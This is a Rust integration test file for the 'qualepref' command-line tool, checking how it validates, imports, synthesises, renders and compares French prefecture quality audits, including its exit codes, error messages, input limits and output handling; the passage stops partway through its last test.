//! The `qualepref` binary: outputs, messages and exit codes (0 success, 1 invalid data, 2 the
//! command could not run).

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use qualepref::{Audit, Format, Interchange as _, Referentiel, samples};
use serde_json::Value;

const TOULON: &str = "examples/data/toulon-2019.json";

/// Runs the binary from the crate's directory with `args`, feeding `stdin`.
#[track_caller]
fn run(args: &[&str], stdin: &str) -> Output {
    let mut child = match Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
    {
        Ok(child) => child,
        Err(e) => panic!("cannot start the binary: {e}"),
    };
    if let Some(mut input) = child.stdin.take() {
        // The binary may exit before reading everything; a broken pipe is then expected.
        let _ = input.write_all(stdin.as_bytes());
    }
    match child.wait_with_output() {
        Ok(output) => output,
        Err(e) => panic!("cannot wait for the binary: {e}"),
    }
}

/// [`run`] with `--lang en`: the English messages, which these tests read.
#[track_caller]
fn run_en(args: &[&str], stdin: &str) -> Output {
    let mut all = vec!["--lang", "en"];
    all.extend_from_slice(args);
    run(&all, stdin)
}

fn code(output: &Output) -> Option<i32> {
    output.status.code()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A fresh directory for one test's files.
#[track_caller]
fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("qualepref-cli-{}-{name}", std::process::id()));
    if let Err(e) = std::fs::create_dir_all(&dir) {
        panic!("cannot create {}: {e}", dir.display());
    }
    dir
}

#[track_caller]
fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    if let Err(e) = std::fs::write(&path, text) {
        panic!("cannot write {}: {e}", path.display());
    }
    path.display().to_string()
}

#[track_caller]
fn toulon() -> Audit {
    match Audit::from_json_str(samples::TOULON_2019_JSON) {
        Ok(audit) => audit,
        Err(e) => panic!("{e}"),
    }
}

#[track_caller]
fn ok<T, E: std::fmt::Display>(result: Result<T, E>) -> T {
    match result {
        Ok(value) => value,
        Err(e) => panic!("{e}"),
    }
}

#[test]
fn valid_audit_exits_0_with_no_diagnostic() {
    let output = run_en(&["validate", TOULON], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    assert_eq!(
        stderr(&output),
        "qualepref: 1 file: 1 valid, 0 invalid; 0 errors, 0 warnings, 0 infos\n"
    );
}

#[test]
fn malformed_json_exits_2_naming_file_line_and_column() {
    let dir = temp_dir("malformed");
    let file = write(
        &dir,
        "audit.json",
        "{\n  \"referentiel\": {\"id\": \"x\"},\n  \"site\": 12\n}\n",
    );
    let output = run_en(&["validate", &file], "");
    assert_eq!(code(&output), Some(2));
    assert_eq!(stdout(&output), "");
    let first = stderr(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        first,
        format!(
            "qualepref: {file}: malformed audit JSON at line 3, column 12 (site): expected an object, found the number 12"
        )
    );
}

#[test]
fn unknown_verdict_names_its_position() {
    let dir = temp_dir("verdict");
    let text = samples::TOULON_2019_JSON.replacen("\"verdict\": \"C\"", "\"verdict\": \"X\"", 1);
    let line = text
        .lines()
        .position(|l| l.contains("\"verdict\": \"X\""))
        .map_or(0, |i| i + 1);
    let file = write(&dir, "toulon.json", &text);
    let output = run_en(&["validate", &file], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: {file}: malformed audit JSON at line {line}, column "
        )),
        "{}",
        stderr(&output)
    );
    assert!(
        stderr(&output).contains("unknown verdict \\\"X\\\"")
            || stderr(&output).contains("unknown verdict \"X\"")
    );
}

#[test]
fn not_json_exits_2() {
    let output = run_en(&["validate", "README.md"], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output)
            .starts_with("qualepref: README.md: malformed audit JSON at line 1, column 1: "),
        "{}",
        stderr(&output)
    );
    let dir = temp_dir("binary");
    let path = dir.join("binary.json");
    ok(std::fs::write(&path, [0xff, 0xfe, 0x00, 0x01]));
    let output = run_en(&["validate", &path.display().to_string()], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains("binary.json"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn missing_file_exits_2_naming_it() {
    let output = run_en(&["validate", "no-such-audit.json"], "");
    assert_eq!(code(&output), Some(2));
    let first = stderr(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert!(
        first.starts_with("qualepref: cannot read no-such-audit.json: No such file or directory"),
        "{first}"
    );
}

#[test]
fn other_files_are_still_checked_after_an_unreadable_one() {
    let output = run_en(&["validate", "no-such-audit.json", TOULON], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).ends_with(
            "qualepref: 2 files: 1 valid, 0 invalid, 1 not read; 0 errors, 0 warnings, 0 infos\n"
        ),
        "{}",
        stderr(&output)
    );
}

#[test]
fn bad_arguments_exit_2() {
    for args in [
        &[][..],
        &["valid"][..],
        &["validate"][..],
        &["validate", "--format", "xml", TOULON][..],
        &["referentiel", "--format", "csv"][..],
        &["schema", "engagement"][..],
        &["--input-format", "xml", "validate", TOULON][..],
    ] {
        let output = run(args, "");
        assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
        assert!(!stderr(&output).is_empty(), "{args:?}");
        assert_eq!(stdout(&output), "", "{args:?}");
    }
}

#[test]
fn help_and_version_exit_0() {
    let output = run(&["--help"], "");
    assert_eq!(code(&output), Some(0));
    assert!(stdout(&output).contains("validate"));
    let output = run(&["--version"], "");
    assert_eq!(code(&output), Some(0));
    assert_eq!(
        stdout(&output),
        format!("qualepref {}\n", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn stdin_is_read_with_dash() {
    let output = run_en(&["validate", "-"], samples::TOULON_2019_JSON);
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let output = run_en(&["validate", "-"], "{\n  \"site\": [\n");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with("qualepref: <stdin>: malformed audit JSON at line "),
        "{}",
        stderr(&output)
    );
    let yaml = ok(toulon().to_string_in(Format::Yaml));
    let output = run_en(&["--input-format", "yaml", "validate", "-"], &yaml);
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let output = run_en(&["validate", "-", "-"], "");
    assert_eq!(code(&output), Some(2));
    assert_eq!(
        stderr(&output),
        "qualepref: standard input (-) can be read only once\n"
    );
}

#[test]
fn yaml_and_toml_inputs_by_extension_or_option() {
    let dir = temp_dir("formats");
    let audit = toulon();
    let yaml = write(&dir, "toulon.yaml", &ok(audit.to_string_in(Format::Yaml)));
    let short_ext = write(&dir, "toulon.yml", &ok(audit.to_string_in(Format::Yaml)));
    let toml = write(&dir, "toulon.toml", &ok(audit.to_string_in(Format::Toml)));
    let untyped = write(&dir, "toulon.audit", &ok(audit.to_string_in(Format::Toml)));
    let output = run_en(&["validate", &yaml, &short_ext, &toml], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let output = run_en(&["validate", "--input-format", "toml", &untyped], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    // Without the option, an unknown extension reads as JSON.
    let output = run_en(&["validate", &untyped], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains("malformed audit JSON"),
        "{}",
        stderr(&output)
    );

    let broken = write(&dir, "broken.toml", "modules = [1, 9]\n");
    let output = run_en(&["validate", &broken], "");
    assert_eq!(code(&output), Some(2));
    let first = stderr(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        first,
        format!(
            "qualepref: {broken}: malformed audit TOML at line 1, column 11 (modules[1]): invalid module number \"9\": a module number is between 1 and 8"
        )
    );
    let broken = write(&dir, "broken.yaml", "referentiel:\n  id: x\nsite: 12\n");
    let output = run_en(&["validate", &broken], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: {broken}: malformed audit YAML at line 3, column 7 (site): "
        )),
        "{}",
        stderr(&output)
    );
}

#[test]
fn json_output_parses_back() {
    let output = run(&["validate", "--format", "json", TOULON], "");
    assert_eq!(code(&output), Some(0));
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(value, Value::Array(Vec::new()));
    // No summary in JSON mode.
    assert_eq!(stderr(&output), "");
}

#[test]
fn referentiel_prints_in_each_format() {
    let embedded = Referentiel::qual_e_pref_2019();
    let output = run(&["referentiel"], "");
    assert_eq!(code(&output), Some(0));
    assert_eq!(stdout(&output), Referentiel::qual_e_pref_2019_json());
    for format in ["json", "yaml", "yml", "toml"] {
        let output = run(&["referentiel", "--format", format], "");
        assert_eq!(code(&output), Some(0), "{format}: {}", stderr(&output));
        let text = stdout(&output);
        let back = match format {
            "json" => Referentiel::from_json_str(&text),
            "toml" => Referentiel::from_str_in(&text, Format::Toml),
            _ => Referentiel::from_str_in(&text, Format::Yaml),
        };
        assert_eq!(&ok(back), embedded, "{format}");
    }
}

#[test]
fn referentiel_option_loads_checks_and_converts_a_file() {
    let dir = temp_dir("referentiel");
    let yaml = write(
        &dir,
        "r.yaml",
        &ok(Referentiel::qual_e_pref_2019().to_string_in(Format::Yaml)),
    );
    let output = run_en(
        &["--referentiel", &yaml, "referentiel", "--format", "json"],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), Referentiel::qual_e_pref_2019_json());
    let output = run_en(&["validate", TOULON, "--referentiel", &yaml], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));

    let broken = write(
        &dir,
        "broken.json",
        r#"{"id": "x", "name": "X", "title": "X", "date": "2020-01-01",
            "modules": [{"number": 1, "title": "", "obligatory": true, "bundled": false}]}"#,
    );
    let output = run_en(&["referentiel", "--referentiel", &broken], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: {broken}: invalid référentiel: 1 problem\n\
             modules[0].title: [empty-title] error: module 1 has an empty title"
        )),
        "{}",
        stderr(&output)
    );
    assert!(stderr(&output).contains("module 1 has an empty title"));
    let output = run_en(&["validate", TOULON, "--referentiel", "no-such.json"], "");
    assert_eq!(code(&output), Some(2));
    assert_eq!(stdout(&output), "");

    let output = run_en(
        &["--referentiel", "-", "referentiel"],
        Referentiel::qual_e_pref_2019_json(),
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), Referentiel::qual_e_pref_2019_json());
    let output = run_en(&["--referentiel", "-", "validate", "-"], "");
    assert_eq!(code(&output), Some(2));
}

#[test]
fn schema_prints_the_committed_schemas() {
    let output = run(&["schema"], "");
    assert_eq!(code(&output), Some(0));
    let audit = ok(std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("schema/audit.schema.json"),
    ));
    assert_eq!(stdout(&output), audit);
    let output = run(&["schema", "audit"], "");
    assert_eq!(stdout(&output), audit);
    let output = run(&["schema", "referentiel"], "");
    assert_eq!(code(&output), Some(0));
    let referentiel = ok(std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("schema/referentiel.schema.json"),
    ));
    assert_eq!(stdout(&output), referentiel);
}

#[test]

fn invalid_audit_exits_1_naming_the_engagement() {
    let dir = temp_dir("invalid");
    let mut audit = toulon();
    // Module 2 is not covered, but engagements 21-23 are assessed.
    audit.modules.retain(|m| m.get() == 1);
    let file = write(&dir, "toulon-module-1.json", &ok(audit.to_json_string()));
    let output = run_en(&["validate", &file], "");
    assert_eq!(code(&output), Some(1), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.lines()
            .any(|l| l.starts_with(&format!("{file}: ")) && l.contains("engagement 21")),
        "{text}"
    );
    let output = run_en(&["validate", "--format", "json", &file], "");
    assert_eq!(code(&output), Some(1));
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert!(
        value.as_array().is_some_and(|all| all
            .iter()
            .any(|d| d["file"] == file.as_str() && d["severity"] == "error")),
        "{value:#}"
    );
}

#[test]
fn inputs_above_the_limit_are_refused() {
    let dir = temp_dir("large");
    let path = dir.join("large.json");
    let file = ok(std::fs::File::create(&path));
    // A sparse file: its size is checked before anything is read.
    ok(file.set_len(qualepref::MAX_INPUT_BYTES + 1));
    let name = path.display().to_string();
    let output = run_en(&["validate", &name], "");
    assert_eq!(code(&output), Some(2));
    let first = stderr(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        first,
        format!(
            "qualepref: {name}: input of 67108865 bytes is larger than the limit of 67108864 bytes"
        )
    );
    let _ = std::fs::remove_file(&path);

    let big = " ".repeat(usize::try_from(qualepref::MAX_INPUT_BYTES).unwrap_or(usize::MAX) + 1);
    let output = run_en(&["validate", "-"], &big);
    assert_eq!(code(&output), Some(2));
    let first = stderr(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        first,
        "qualepref: <stdin>: input is larger than the limit of 67108864 bytes"
    );
}

const REPORT: &str = "tests/fixtures/rapport-audit-toulon-2019.txt";

#[test]
fn import_writes_the_bundled_audit_and_its_diagnostics() {
    let output = run(&["import", REPORT], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), samples::TOULON_2019_JSON);
    let lines: Vec<String> = stderr(&output).lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 5, "{lines:?}");
    assert_eq!(
        lines[0],
        format!(
            "qualepref: {REPORT}\u{a0}: ligne 51\u{a0}: [figure-from-prose] info\u{a0}: chiffre du contexte lu dans le texte «\u{a0}1 060 000 habitants\u{a0}»\u{a0}: population = 1060000"
        )
    );
    assert!(lines[4].contains("[charte-verdict-from-text] déduit"));

    let dir = temp_dir("import");
    let out = dir.join("audit.yaml");
    let output = run(
        &[
            "import",
            "-",
            "-o",
            &out.display().to_string(),
            "--format",
            "yaml",
        ],
        samples::TOULON_2019_REPORT,
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    let yaml = ok(std::fs::read_to_string(&out));
    assert_eq!(ok(Audit::from_str_in(&yaml, Format::Yaml)), toulon());
}

#[test]
fn import_of_what_is_not_a_report_exits_2() {
    let output = run_en(&["import", "-"], "garbage\n");
    assert_eq!(code(&output), Some(2));
    assert_eq!(
        stderr(&output),
        "qualepref: <stdin>: not a qual-e-pref audit report: no title, page de garde nor section 3 found\n"
    );
    let output = run_en(&["import", TOULON], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: {TOULON}: not a qual-e-pref audit report"
        )),
        "{}",
        stderr(&output)
    );
    let output = run_en(&["import", "no-such-report.txt"], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output)
            .starts_with("qualepref: cannot read no-such-report.txt: No such file or directory"),
        "{}",
        stderr(&output)
    );
    let truncated: String = samples::TOULON_2019_REPORT
        .lines()
        .take(60)
        .collect::<Vec<_>>()
        .join("\n");
    let output = run_en(&["import", "-"], &truncated);
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output)
            .contains("the report ends at line 59, before section 3 (synthèse de l'évaluation)"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn synthesize_json_follows_the_contract() {
    let output = run(&["synthesize", TOULON, "--format", "json"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stderr(&output), "");
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert!(stdout(&output).contains("\"outcome\": \"favorable\""));
    assert_eq!(value["counts"]["conforme"], 23);
    assert_eq!(value["counts"]["non_applicable"], 0);
    assert_eq!(value["counts"]["nc_mineure"], 0);
    assert_eq!(value["counts"]["nc_majeure"], 0);
    assert_eq!(value["ecarts"], serde_json::json!([]));
    assert_eq!(
        value["modules"][0]["rate"],
        serde_json::json!({"numerator": 20, "denominator": 20})
    );
    assert_eq!(
        value["modules"][1]["rate"],
        serde_json::json!({"numerator": 3, "denominator": 3})
    );
}

#[test]
fn synthesize_text_and_markdown_in_both_languages() {
    let output = run(&["synthesize", TOULON], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.starts_with(
            "AVIS INDICATIF (audit interne, sans valeur de décision)\u{a0}: avis favorable\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("❖ FICHE(S) D'ÉCART(S)\nAbsence de non-conformité majeure ou mineure.\n"),
        "{text}"
    );
    let output = run(&["synthesize", TOULON, "--lang", "en"], "");
    assert!(
        stdout(&output)
            .starts_with("INDICATIVE OUTCOME (internal audit, not a decision): favourable\n"),
        "{}",
        stdout(&output)
    );
    let output = run(&["synthesize", TOULON, "--format", "markdown"], "");
    assert_eq!(code(&output), Some(0));
    let audit = toulon();
    let valid = ok(qualepref::Valid::new(
        &audit,
        Referentiel::qual_e_pref_2019(),
        &qualepref::ValidationOptions::default(),
    )
    .map_err(|r| r.to_string()));
    let conclusions = qualepref::conclude(
        &valid,
        &qualepref::Policy::default(),
        qualepref::Language::Fr,
    );
    assert_eq!(
        stdout(&output),
        qualepref::render_markdown(&valid, &conclusions)
    );
}

/// The Toulon audit with an NC min on engagement 17 and its fiche d'écart.
fn toulon_with_nc_min_on_17() -> Audit {
    let mut audit = toulon();
    let e17 = &mut audit.assessments[16];
    e17.verdict = Some(qualepref::Verdict::MinorNonconformity);
    audit.ecarts.push(qualepref::FicheEcart {
        number: None,
        target: qualepref::EcartTarget::Engagement(e17.engagement),
        grade: qualepref::NcGrade::Minor,
        finding: "Délai dépassé pour 12 courriers sur 40.".to_owned(),
        requirement: "Répondre dans le délai annoncé.".to_owned(),
        cause: None,
        corrective_action: None,
        due: None,
        leader: None,
        response: None,
        status: qualepref::ActionStatus::Open,
    });
    audit.conclusion.fiches_ecart.clear();
    audit
}

#[test]
fn synthesize_policy_options_change_the_due_date_and_threshold() {
    let dir = temp_dir("policy");
    let audit = toulon_with_nc_min_on_17();
    let file = write(&dir, "nc-min.json", &ok(audit.to_json_string()));
    let output = run(&["synthesize", &file, "--format", "json"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(value["outcome"], "favorable_with_conditions");
    assert_eq!(value["ecarts"][0]["due"], "2020-02-18");
    assert_eq!(value["ecarts"][0]["grade"], "NC min");
    let output = run(
        &[
            "synthesize",
            &file,
            "--format",
            "json",
            "--deadline-months",
            "6",
            "--minor-threshold",
            "1",
        ],
        "",
    );
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(value["outcome"], "unfavorable");
    assert_eq!(value["ecarts"][0]["due"], "2020-05-18");
}

#[test]
fn synthesize_sets_the_deadline_of_each_grade() {
    let dir = temp_dir("deadlines");
    let mut audit = toulon();
    if let Some(a) = audit
        .assessments
        .iter_mut()
        .find(|a| a.engagement.get() == 17)
    {
        a.verdict = Some(qualepref::Verdict::MajorNonconformity);
    }
    // A fiche without due date: the policy's deadline applies.
    audit.ecarts.push(qualepref::FicheEcart::new(
        qualepref::EcartTarget::Engagement(ok(qualepref::EngagementNumber::try_from(17))),
        qualepref::NcGrade::Major,
        "Constat synthétique",
    ));
    let file = write(&dir, "nc-maj.json", &ok(audit.to_json_string()));
    let due = |extra: &[&str]| {
        let mut args = vec!["synthesize", &file, "--format", "json"];
        args.extend(extra);
        let output = run(&args, "");
        assert_eq!(code(&output), Some(0), "{}", stderr(&output));
        let value: Value = ok(serde_json::from_str(&stdout(&output)));
        (
            value["ecarts"][0]["due"].as_str().unwrap_or("").to_owned(),
            value["policy"].clone(),
        )
    };
    let (date, policy) = due(&[]);
    assert_eq!(date, "2019-12-18");
    assert_eq!(policy["deadline_months"], 3);
    assert_eq!(policy["major_deadline_months"], 1);
    assert_eq!(due(&["--major-deadline-months", "2"]).0, "2020-01-18");
    assert_eq!(due(&["--minor-deadline-months", "2"]).0, "2019-12-18");
    assert_eq!(due(&["--deadline-months", "4"]).0, "2020-03-18");
    // The per-grade option wins over the one for both grades.
    let both = ["--deadline-months", "4", "--major-deadline-months", "2"];
    assert_eq!(due(&both).0, "2020-01-18");
}

#[test]
fn synthesize_and_render_refuse_an_invalid_audit_with_exit_1() {
    let dir = temp_dir("invalid-synthesis");
    let mut audit = toulon();
    audit.modules.retain(|m| m.get() == 1);
    let file = write(&dir, "invalid.json", &ok(audit.to_json_string()));
    for command in ["synthesize", "render"] {
        let output = run(&[command, &file], "");
        assert_eq!(code(&output), Some(1), "{command}: {}", stderr(&output));
        assert_eq!(stdout(&output), "", "{command}");
        let err = stderr(&output);
        assert!(err.contains(&format!("qualepref: {file}\u{a0}: assessments[20].engagement\u{a0}: [module-not-covered] erreur\u{a0}: l'engagement 21")), "{err}");
        assert!(
            err.ends_with("erreur(s))\u{a0}: pas de synthèse\n"),
            "{err}"
        );
    }
    let output = run(&["synthesize", "no-such.json"], "");
    assert_eq!(code(&output), Some(2));
}

#[test]
fn render_markdown_to_a_file() {
    let dir = temp_dir("render");
    let out = dir.join("report.md");
    let output = run(
        &[
            "render",
            TOULON,
            "--format",
            "markdown",
            "-o",
            &out.display().to_string(),
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    let text = ok(std::fs::read_to_string(&out));
    assert!(text.contains("Nous vous répondons dans un délai annoncé et maîtrisé"));
    let output = run(&["render", TOULON, "--format", "pdf"], "");
    assert_eq!(code(&output), Some(2));
    let html = dir.join("report.html");
    let output = run(
        &[
            "render",
            TOULON,
            "--format",
            "html",
            "-o",
            &html.display().to_string(),
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = ok(std::fs::read_to_string(&html));
    assert_eq!(
        text,
        ok(std::fs::read_to_string(
            "tests/snapshots/toulon-report.fr.html"
        ))
    );
}

#[test]
fn diff_names_each_change_and_exits_1_on_an_invalid_audit() {
    let dir = temp_dir("diff");
    let mut audit = toulon_with_nc_min_on_17();
    let after = write(&dir, "after.json", &ok(audit.to_json_string()));
    let output = run(&["diff", TOULON, &after], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.contains(
            "- Avis\u{a0}: avis favorable (indicatif) → avis favorable sous réserve (indicatif)\n"
        ),
        "{text}"
    );
    assert!(text.contains("- Engagement 17 «\u{a0}Nous vous répondons dans un délai annoncé et maîtrisé\u{a0}»\u{a0}: C → NC min (dégradé)\n"), "{text}");
    assert!(
        text.contains("- engagement 17\u{a0}: — → NC min (nouvelle)\n"),
        "{text}"
    );
    assert_eq!(
        text.matches("\n- ").count() + usize::from(text.starts_with("- ")),
        11,
        "{text}"
    );
    assert!(
        text.contains("\n- Avant\u{a0}: Préfecture, TOULON (83) — "),
        "{text}"
    );

    let output = run(&["diff", TOULON, &after, "--format", "json"], "");
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(
        value["outcome"],
        serde_json::json!(["favorable", "favorable_with_conditions"])
    );
    assert_eq!(value["nonconformities"][0]["status"], "new");
    let output = run(
        &[
            "diff", TOULON, &after, "--format", "markdown", "--lang", "en",
        ],
        "",
    );
    assert!(stdout(&output).starts_with("# Comparison of two audits\n"));

    audit.modules.retain(|m| m.get() == 1);
    let invalid = write(&dir, "invalid.json", &ok(audit.to_json_string()));
    let output = run(&["diff", TOULON, &invalid], "");
    assert_eq!(code(&output), Some(1));
    assert!(
        stderr(&output).ends_with("qualepref: un audit invalide ne peut être comparé\n"),
        "{}",
        stderr(&output)
    );
    let output = run(&["diff", "-", "-"], "");
    assert_eq!(code(&output), Some(2));
}

// --- outputs and inputs that fail ------------------------------------------------------------

/// Runs the binary through `sh -c script` (the binary is `$0`, `args` are `"$@"`).
#[track_caller]
fn run_sh(script: &str, args: &[&str]) -> Output {
    match Command::new("sh")
        .arg("-c")
        .arg(script)
        .arg(env!("CARGO_BIN_EXE_qualepref"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::null())
        .output()
    {
        Ok(output) => output,
        Err(e) => panic!("cannot run sh: {e}"),
    }
}

#[test]
fn a_failed_output_file_leaves_the_previous_one() {
    let dir = temp_dir("atomic");
    let out = write(&dir, "report.md", "previous report\n");
    // Files are limited to 4 blocks of 512 bytes: the report is longer, its writing fails
    // midway as on a full disk.
    let output = run_sh(
        r#"trap "" XFSZ; ulimit -f 4; exec "$0" "$@""#,
        &["render", TOULON, "-o", &out],
    );
    assert_eq!(code(&output), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: {out}\u{a0}: écriture impossible\u{a0}: "
        )),
        "{}",
        stderr(&output)
    );
    assert_eq!(ok(std::fs::read_to_string(&out)), "previous report\n");
    let left: Vec<_> = ok(std::fs::read_dir(&dir)).collect();
    assert_eq!(left.len(), 1, "the temporary file is removed");

    // Without the limit the file is replaced whole.
    let output = run_en(&["render", TOULON, "-o", &out], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(ok(std::fs::read_to_string(&out)).len() > 4 * 512);
    let _ = std::fs::remove_dir_all(&dir);
}

/// A standard output closed before the command starts (`>&-`) cannot be told apart from
/// `/dev/null` opened read-write: the Rust runtime opens `/dev/null` read-write in its place
/// before the program runs. Both are written to, as `/dev/null` is (a read-write `/dev/null` is
/// what Python's `subprocess.DEVNULL` gives).
#[cfg(unix)]
#[test]
fn dev_null_is_a_place_to_write_to_in_any_mode() {
    for redirection in [">/dev/null", "1<>/dev/null", ">&-"] {
        for args in [
            &["render", TOULON][..],
            &["validate", TOULON][..],
            &["render", TOULON, "-o", "/dev/stdout"][..],
            &["--help"][..],
            &["--version"][..],
        ] {
            let output = run_sh(&format!(r#"exec "$0" "$@" {redirection}"#), args);
            assert_eq!(
                code(&output),
                Some(0),
                "{redirection} {args:?}: {}",
                stderr(&output)
            );
            assert!(
                !stderr(&output).contains("standard output"),
                "{redirection} {args:?}: {}",
                stderr(&output)
            );
        }
    }
    // As Python's subprocess.DEVNULL: /dev/null opened read-write, given as standard output.
    let null = || {
        ok(std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open("/dev/null"))
    };
    for args in [&["validate", TOULON][..], &["render", TOULON][..]] {
        let output = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
            .env_remove("LC_ALL")
            .env_remove("LC_MESSAGES")
            .env_remove("LANG")
            .args(args)
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .stdin(null())
            .stdout(null())
            .stderr(Stdio::piped())
            .output());
        assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
    }
}

#[test]
fn a_broken_pipe_ends_quietly() {
    let mut child = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(["render", TOULON, "--format", "html"])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn());
    // The reader goes away before reading anything, as `| head -c 0` would.
    drop(child.stdout.take());
    let output = ok(child.wait_with_output());
    assert_eq!(stderr(&output), "");
    assert_eq!(code(&output), Some(0));
}

#[test]
fn endless_inputs_are_refused_past_the_limit() {
    // Standard input.
    let output = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .args(["--lang", "en"])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(["validate", "-"])
        .stdin(ok(std::fs::File::open("/dev/zero")))
        .output());
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output)
            .starts_with("qualepref: <stdin>: input is larger than the limit of 67108864 bytes\n"),
        "{}",
        stderr(&output)
    );
    // A device named as a file, and standard input of the import.
    let output = run_en(&["validate", "/dev/zero"], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(
            "qualepref: /dev/zero: input of 67108865 bytes is larger than the limit of 67108864 \
             bytes"
        ),
        "{}",
        stderr(&output)
    );
    let output = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .args(["--lang", "en"])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(["import", "-"])
        .stdin(ok(std::fs::File::open("/dev/zero")))
        .output());
    assert_eq!(code(&output), Some(2));
    assert_eq!(
        stderr(&output),
        "qualepref: <stdin>: input is larger than the limit of 67108864 bytes\n"
    );
}

#[test]
fn diff_refuses_two_different_sites_unless_forced() {
    let dir = temp_dir("diff-sites");
    let mut nice = toulon();
    nice.site.city = "NICE".to_owned();
    nice.site.departement = ok("06".parse());
    let later = ok("2020-03-02".parse());
    nice.dates = qualepref::AuditDates::day(later);
    for auditor in &mut nice.auditors {
        auditor.signed_on = Some(later);
    }
    let nice = write(&dir, "nice.json", &ok(nice.to_json_string()));
    let output = run_en(&["diff", TOULON, &nice], "");
    assert_eq!(code(&output), Some(1));
    assert_eq!(stdout(&output), "");
    assert_eq!(
        stderr(&output),
        format!(
            "qualepref: {TOULON} is an audit of Préfecture TOULON (83), {nice} of Préfecture NICE \
             (06): two different sites are not compared (--force compares them anyway)\n"
        )
    );
    let output = run_en(&["diff", TOULON, &nice, "--force"], "");
    assert_eq!(code(&output), Some(0));
    assert!(stderr(&output).ends_with(": compared as asked by --force\n"));
